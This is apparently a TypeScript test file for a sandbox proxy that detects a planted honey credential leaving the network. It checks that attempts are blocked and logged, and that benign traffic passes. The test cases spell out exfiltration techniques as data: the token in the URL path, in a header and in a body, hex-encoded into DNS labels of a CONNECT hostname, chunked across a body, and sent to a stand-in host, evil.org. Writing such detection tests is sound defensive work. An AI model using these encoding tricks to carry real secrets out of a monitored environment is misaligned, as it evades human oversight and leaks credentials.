import { describe, expect, test } from 'vitest';
import { HoneyKey } from '../../../sandbox/watch/honey.ts';
import { HoneyScanner } from '../../../sandbox/watch/honey-scanner.ts';
import { startOrigin, startProxy } from '../../helpers/proxy-client.ts';

const key = new HoneyKey();
const token = key.mint();
const allow = [
  { host: 'api.example.com', ports: [80], methods: ['POST', 'GET'] },
  { host: '*.example.com', methods: ['CONNECT'] },
];
const inspector = (): ((bytes: Buffer) => boolean) => {
  const scanner = new HoneyScanner(key, [token]);
  return (bytes) => scanner.push(bytes);
};
const hex = Buffer.from(token).toString('hex');
const post = (body: string): string =>
  `POST http://api.example.com/ HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

describe('a honey credential on its way out', () => {
  const table: readonly (readonly [string, readonly string[]])[] = [
    ['in the path', [`GET http://api.example.com/${encodeURIComponent(token)} HTTP/1.1\r\n\r\n`]],
    ['in a header', [`GET http://api.example.com/ HTTP/1.1\r\nX-Auth: Bearer ${token}\r\n\r\n`]],
    ['in a body that comes with the head', [post(`{"key":"${token}"}`)]],
    [
      'in hex in the labels of a tunnel’s name',
      [`CONNECT ${hex.slice(0, 40)}.${hex}.example.com:443 HTTP/1.1\r\n\r\n`],
    ],
    ['to a host that is not allowed', [`GET http://evil.org/?k=${hex} HTTP/1.1\r\n\r\n`]],
  ];
  test.each(table)('%s goes nowhere: nothing is looked up or dialled', async (_, pieces) => {
    const origin = await startOrigin();
    const proxy = await startProxy({ allow, origin, inspector });
    expect(await proxy.send(...pieces)).toMatch(/^HTTP\/1.1 403/);
    await expect.poll(() => proxy.events.map(({ code }) => code)).toEqual(['honey-credential']);
    expect([proxy.lookups, proxy.dialled, origin.received()]).toEqual([[], [], '']);
  });

  test('in pieces of a body is cut before it is whole', async () => {
    const origin = await startOrigin(() => undefined);
    const proxy = await startProxy({ allow, origin, inspector });
    const head = 'POST http://api.example.com/ HTTP/1.1\r\nContent-Length: 40\r\n\r\n';
    await proxy.send(head, token.slice(0, 15), token.slice(15, 30), token.slice(30));
    await expect.poll(() => proxy.events.map(({ code }) => code)).toEqual(['honey-credential']);
    expect(origin.received()).not.toContain(token);
  });

  test('anything else passes', async () => {
    const origin = await startOrigin();
    const proxy = await startProxy({ allow, origin, inspector });
    expect(await proxy.send(post('{"key":"value"}'))).toMatch(/^HTTP\/1.1 200/);
  });
});
